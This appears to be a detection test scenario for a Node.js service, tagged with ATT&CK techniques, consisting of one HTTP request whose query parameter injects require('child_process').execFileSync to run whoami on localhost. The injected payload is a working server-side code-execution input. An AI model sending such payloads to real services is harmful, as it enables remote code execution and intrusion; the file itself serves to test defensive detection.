# title: a service starts a program without a shell
# attack: T1190 T1033
# workload: node
# through: http
# shows: process whoami, parent node
GET http://127.0.0.1:3000/total?of=require(%27child_process%27).execFileSync(%27%2Fusr%2Fbin%2Fwhoami%27)
